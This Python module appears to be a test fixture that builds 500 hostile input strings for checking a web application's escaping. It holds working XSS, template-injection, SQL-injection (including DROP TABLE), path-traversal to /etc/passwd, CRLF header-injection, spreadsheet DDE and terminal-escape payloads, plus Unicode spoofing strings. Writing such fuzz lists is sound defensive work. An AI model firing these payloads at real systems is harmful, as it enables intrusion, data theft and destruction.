"""The fixed list of 500 hostile strings: each of 50 seeds, which want something of a reader, in each of 10 settings.

A seed that is a script calls `ran()`: where that happens, a page has run what somebody wrote. Others want a template, a
database, a file, a spreadsheet, a terminal or a reader's eyes to take them for more than text.
"""

from collections.abc import Callable, Mapping

RUN = "ran()"
"""The canary: what a script that ran would have called."""

SEEDS = (
    # a script, as it would come through markup, an attribute, a style, an address
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<style>*{{background:url('javascript:{RUN}')}}</style>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<div hx-get='/console/out' hx-trigger='load' hx-on::load='{RUN}'>x</div>",
    f"<base href='https://invented.example/'><script src=x.js></script>{RUN}",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action='https://invented.example/'><button>{RUN}",
    # a template, an expression
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{7*7}{0.__class__}",
    # a database
    "' OR '1'='1",
    "1 OR 1=1",
    "'; DROP TABLE screening; --",
    "1) UNION SELECT body FROM screening --",
    "%' ESCAPE '!' OR site LIKE '%",
    # a file, an address, a header
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd%00.html",
    "file:///etc/passwd",
    "\\\\invented.example\\share",
    "//invented.example/%0d%0aSet-Cookie:%20console=planted",
    "x\r\nSet-Cookie: console=planted\r\n\r\n<script>",
    # a spreadsheet, a terminal, a program that reads numbers
    '=HYPERLINK("https://invented.example","x")',
    "＝cmd|' /C calc'!A0",
    "\x1b[2J\x1b]0;owned\x07",
    "9" * 40,
    "-1e999",
    "2026-02-30",
    # eyes and fonts
    "\u202e)gnitteser( ton\u2066\u200b\u2060",
    "e" + "\u0301\u0336" * 60,
    "\x00\x01\x7f\u0085\ufeff\ufffe",
    "\U0001f469\u200d\U0001f52c\ud83d\U000e0041",
    "A" * 1500,
    "\u3164\u115f\u2800\u00ad",
)
SETTINGS: Mapping[str, Callable[[str], str]] = {
    "alone": lambda seed: seed,
    "behind a number": lambda seed: f"1{seed}",
    "out of an attribute": lambda seed: f'"> {seed}',
    "out of another attribute": lambda seed: f"'/> {seed}",
    "in an attribute of its own": lambda seed: f'" onmouseover="{RUN}" x="{seed}',
    "between spaces": lambda seed: f" \t{seed}\n ",
    "twice": lambda seed: f"{seed}{seed}",
    "in capitals": lambda seed: f"({seed.upper()})".replace(RUN.upper(), RUN),
    "as a known word": lambda seed: f"excluded{seed}",
    "in a page of a list": lambda seed: f"2026-11-23T09:00:00+00:00_{seed}",
}


def hostile() -> list[str]:
    """Return all 500, each of them once."""
    return [setting(seed) for seed in SEEDS for setting in SETTINGS.values()]
